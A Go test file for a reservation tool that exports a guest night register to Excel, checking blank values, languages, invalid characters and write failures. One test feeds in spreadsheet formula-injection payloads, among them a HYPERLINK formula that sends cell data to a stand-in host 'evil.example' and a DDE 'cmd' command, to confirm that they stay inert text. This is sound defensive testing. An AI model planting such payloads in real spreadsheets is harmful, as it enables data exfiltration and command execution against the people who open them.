// SPDX-License-Identifier: MIT

//go:build !small

package register

import (
	"errors"
	"fmt"
	"io"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/reservationkit/reservations-go/types"
)

// What the service did not send is a blank cell or a question mark, and what is no day stays
// the text that it is.
func TestFormKeepsWhatWasSent(t *testing.T) {
	t.Parallel()
	odd := types.PresenceItem{ReservationID: 1<<53 + 1, AgeGroupSpecificationDescription: "Adults"}
	if err := odd.ReservationDateFrom.UnmarshalJSON([]byte(`"soon"`)); err != nil {
		t.Fatal(err)
	}
	odd.ReservationDateTo = types.NewDate(1899, time.December, 31)
	some := odd
	some.AgeGroupSpecificationDescription, some.NumOfPersons = "", new(2)
	f, _ := form(t, []types.PresenceDay{{Items: []types.PresenceItem{odd, some}}, {Date: november(1), Items: []types.PresenceItem{{}}}}, madeUp)
	want := [][]string{
		{"", "", "", "", "2 + ?", "Adults ?, not stated 2", "soon", "1899-12-31", "", "", "", "id 9007199254740993", "name, residence, arrival, kind of document"},
		{"01/11/2026", "", "", "", "?", "not stated ?", "", "", "", "", "", "", "name, residence, arrival, departure, kind of document"},
	}
	if diff := cmp.Diff(want, formRows(t, f)); diff != "" {
		t.Errorf("rows (-want +got):\n%s", diff)
	}
	if kind, err := f.GetCellType("Night register", "B6"); kind != excelize.CellTypeUnset || err != nil {
		t.Errorf("a blank cell is of type %d, error %v", kind, err)
	}
	about, err := f.GetRows("About this register")
	if text := fmt.Sprint(about); err != nil || !strings.Contains(text, "do not say how many persons: 2") || !strings.Contains(text, "name no reservation: 1") || !strings.Contains(text, "without a date: 1") {
		t.Errorf("the notices are not on the second sheet: %s, error %v", text, err)
	}
}

// A text of a guest is never a formula, neither when the workbook is opened nor when
// somebody edits the cell, and comes out as it went in.
func TestFormHasNoFormulas(t *testing.T) {
	t.Parallel()
	for name, text := range map[string]string{
		"equals": `=HYPERLINK("https://evil.example/?"&A1,"open")`, "plus": "+1+1", "minus": "-1-1", "at": "@SUM(A1)", "tab": "\t=1+1",
		"full width": "＝1+1", "command": "=cmd|'/C calc'!A0", "a number": "007", "a date": "2026-11-01", "an error": "#REF!",
		"markup": hostileText, "an escape": "_x0041_BC", "blanks around": "  Jansen ", "lines": "a\nb",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			item := types.PresenceItem{
				ReservationNumber: text, ReservationName: text, ReservationAccommodationTitle: text, ReservationAccommodationUnitNumber: text,
				AgeGroupSpecificationDescription: text, GuestLocality: text, GuestCountry: text, GuestDocumentType: text, NumOfPersons: new(1),
			}
			from := madeUp
			from.Park = text
			f, data := form(t, []types.PresenceDay{{Date: november(1), Items: []types.PresenceItem{item}}}, from)
			for _, cell := range []string{"A1", "B5", "C5", "D5", "F5", "I5", "J5", "K5", "L5"} {
				value, err := f.GetCellValue("Night register", cell)
				if err != nil || !strings.Contains(value, text) {
					t.Errorf("%s holds %q, error %v, want %q", cell, value, err, text)
				}
				formula, err := f.GetCellFormula("Night register", cell)
				kind, err2 := f.GetCellType("Night register", cell)
				if formula != "" || kind != excelize.CellTypeInlineString || errors.Join(err, err2) != nil {
					t.Errorf("%s has the formula %q and the type %d, errors %v and %v", cell, formula, kind, err, err2)
				}
				id, err := f.GetCellStyle("Night register", cell)
				if err != nil {
					t.Fatal(err)
				}
				const asText = 49 // the format "@" keeps what is typed a text
				if style, err := f.GetStyle(id); err != nil || style.NumFmt != asText {
					t.Errorf("%s has the style %+v, error %v, want the format of a text", cell, style, err)
				}
			}
			for _, sheet := range []string{"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"} {
				if content := partOf(t, data, sheet); strings.Contains(content, "<f>") || strings.Contains(content, "<f ") {
					t.Errorf("%s holds a formula", sheet)
				}
			}
		})
	}
}

// Signs that XML cannot hold do not make a file that cannot be opened.
func TestFormWithSignsThatXMLCannotHold(t *testing.T) {
	t.Parallel()
	item := whole()
	item.ReservationName = "a\x00b\x1bc\xffd"
	f, _ := form(t, []types.PresenceDay{{Date: november(1), Items: []types.PresenceItem{item}}}, madeUp)
	if got, want := formRows(t, f)[0][3], "a\uFFFDb\uFFFDc\uFFFDd"; got != want {
		t.Errorf("the name is %q, want %q", got, want)
	}
}

func TestFormLanguages(t *testing.T) {
	t.Parallel()
	for code, want := range map[string]struct {
		sheets  []string
		day     string
		missing string
	}{
		"en": {[]string{"Night register", "About this register"}, "01/11/2026", "name"},
		"nl": {[]string{"Nachtregister", "Over dit register"}, "01-11-2026", "naam"},
		"de": {[]string{"Nachtregister", "Über dieses Register"}, "01.11.2026", "Name"},
	} {
		t.Run(code, func(t *testing.T) {
			t.Parallel()
			from := madeUp
			from.Locale, from.Demo = locales[code], true
			item := whole()
			item.ReservationName = ""
			f, _ := form(t, []types.PresenceDay{{Date: november(1), Items: []types.PresenceItem{item}}}, from)
			if diff := cmp.Diff(want.sheets, f.GetSheetList()); diff != "" {
				t.Errorf("sheets (-want +got):\n%s", diff)
			}
			row := formRows(t, f)[0]
			if row[0] != want.day || row[12] != want.missing {
				t.Errorf("the row is %q, want %q and %q in it", row, want.day, want.missing)
			}
			note, err := f.GetCellValue(want.sheets[0], "A3")
			if err != nil || !strings.HasPrefix(note, locales[code].Demo) || !strings.Contains(note, want.sheets[1]) {
				t.Errorf("the note is %q, error %v", note, err)
			}
			about, err := f.GetRows(want.sheets[1])
			if err != nil || !slices.ContainsFunc(about, func(row []string) bool { return row[0] == locales[code].FormNotCarried }) {
				t.Errorf("the second sheet is %q, error %v", about, err)
			}
		})
	}
}

func TestFormWithTooManyRows(t *testing.T) {
	t.Parallel()
	b := &workbook{row: 1_048_576}
	if err := b.add([]any{"one more"}); err == nil || !strings.Contains(err.Error(), "1048576 rows") || !strings.Contains(err.Error(), "fewer nights") {
		t.Errorf("got %v, want that there are too many rows", err)
	}
}

func TestFormCannotBeWritten(t *testing.T) {
	t.Parallel()
	broken := errors.New("the disk is full")
	from := madeUp
	from.Asked.out = t.TempDir()
	err := newRegister(nil, nil, from).writeForm(failing{broken}, slices.Values([]types.PresenceDay{}))
	if !errors.Is(err, broken) {
		t.Errorf("got %v, want %v", err, broken)
	}
	if left := contents(t, from.Asked.out); len(left) != 0 {
		t.Errorf("temporary files are left: %v", left)
	}
	from.Asked.out += "/none"
	if err := newRegister(nil, nil, from).writeForm(io.Discard, slices.Values([]types.PresenceDay{})); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("got %v, want that there is no such folder", err)
	}
}

type failing struct{ err error }

func (f failing) Write([]byte) (int, error) { return 0, f.err }
